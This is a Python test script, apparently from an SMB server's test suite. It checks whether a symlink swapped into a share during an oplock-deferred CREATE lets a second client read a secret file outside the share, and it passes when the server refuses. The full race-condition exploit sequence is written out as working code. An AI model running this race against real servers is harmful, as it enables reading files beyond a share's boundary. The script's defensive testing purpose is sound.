#!/usr/bin/env python3
"""A symlink swapped in while a CREATE waits for an oplock break must not lead out of the share.

usage: symlink_swap.py HOST PORT SHARE USER PASSWORD SHARE_DIR OUTSIDE_DIR

1. Client A opens dir/f with a batch oplock.
2. Client B opens dir/f: the server defers B's CREATE until A's oplock is broken.
3. While B waits, the directory `dir` inside the share is replaced by a symlink to
   OUTSIDE_DIR (which holds its own `f` with a secret), the way a local user or another
   protocol could swap it.
4. A closes: the server finishes B's CREATE. A server that opens the file again by path now
   follows the symlink and hands B the secret file outside the share.
Prints "swap refused" and exits 0 when B got an error or the file inside the share, exits 1
when B reached the outside file.
"""
import os
import sys
import threading
import time
import uuid

from smbprotocol.connection import Connection
from smbprotocol.session import Session
from smbprotocol.tree import TreeConnect
from smbprotocol.open import (CreateDisposition, CreateOptions, FileAttributes,
                              ImpersonationLevel, Open, ShareAccess, FilePipePrinterAccessMask,
                              RequestedOplockLevel)

SECRET = b"outside secret"
BREAK_MESSAGE_ID = 0xFFFFFFFFFFFFFFFF


class _Ignored:
    """Stands in for the request an unsolicited break notification answers."""

    def __init__(self):
        self.session_id = 0
        self.response_event_lock = threading.Lock()
        self.response_event = threading.Event()
        self.message = {"reserved": _Reserved()}


class _Reserved:
    def get_value(self):
        return 0


class _Outstanding(dict):
    """smbprotocol's receive thread dies on an oplock break notification (no request has
    its MessageId 0xFFFFFFFFFFFFFFFF, MS-SMB2 3.3.4.6): give it a sink instead, so client
    A stays connected without acknowledging the break."""

    def __missing__(self, key):
        if key == BREAK_MESSAGE_ID:
            return _Ignored()
        raise KeyError(key)


def client(host, port, share, user, password):
    conn = Connection(uuid.uuid4(), host, port, require_signing=True)
    conn.outstanding_requests = _Outstanding()
    conn.connect()
    sess = Session(conn, user, password)
    sess.connect()
    tree = TreeConnect(sess, rf"\\{host}\{share}")
    tree.connect()
    return conn, tree


def open_file(tree, name, oplock):
    f = Open(tree, name)
    f.create(ImpersonationLevel.Impersonation,
             FilePipePrinterAccessMask.GENERIC_READ | FilePipePrinterAccessMask.GENERIC_WRITE,
             FileAttributes.FILE_ATTRIBUTE_NORMAL,
             ShareAccess.FILE_SHARE_READ | ShareAccess.FILE_SHARE_WRITE
             | ShareAccess.FILE_SHARE_DELETE,
             CreateDisposition.FILE_OPEN,
             CreateOptions.FILE_NON_DIRECTORY_FILE,
             oplock_level=oplock)
    return f


def main():
    host, port, share, user, password, share_dir, outside = sys.argv[1:8]
    port = int(port)
    conn_a, tree_a = client(host, port, share, user, password)
    conn_b, tree_b = client(host, port, share, user, password)
    a = open_file(tree_a, r"dir\f", RequestedOplockLevel.SMB2_OPLOCK_LEVEL_BATCH)
    print("A oplock level", a.oplock_level, flush=True)
    result = {}

    def b_open():
        try:
            f = open_file(tree_b, r"dir\f", RequestedOplockLevel.SMB2_OPLOCK_LEVEL_NONE)
            result["data"] = f.read(0, 100)
            f.close()
        except Exception as e:  # the server's refusal
            result["error"] = repr(e)

    t = threading.Thread(target=b_open)
    t.start()
    # B's CREATE is now waiting for A's break; give the request time to reach the server.
    time.sleep(1.0)
    if "data" in result or "error" in result:
        print("B was not deferred:", result, flush=True)
        sys.exit(2)
    inside = os.path.join(share_dir, "dir")
    os.rename(inside, inside + ".orig")
    os.symlink(outside, inside)
    print("swapped", flush=True)
    a.close()
    t.join(60)
    print("B:", result, flush=True)
    for c in (conn_a, conn_b):
        try:
            c.disconnect()
        except Exception:
            pass
    if result.get("data") == SECRET:
        print("B read the file outside the share")
        sys.exit(1)
    print("swap refused")


if __name__ == "__main__":
    main()
